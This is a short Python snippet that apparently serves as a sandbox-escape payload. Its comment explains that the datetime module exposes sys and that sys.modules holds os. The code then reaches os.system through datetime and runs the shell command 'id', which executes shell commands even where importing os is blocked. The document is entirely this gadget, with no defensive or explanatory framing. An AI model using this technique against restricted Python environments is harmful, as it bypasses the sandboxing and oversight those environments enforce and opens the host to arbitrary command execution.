# datetime re-exports sys (datetime.sys), and sys.modules holds os
import datetime

datetime.sys.modules["os"].system("id")
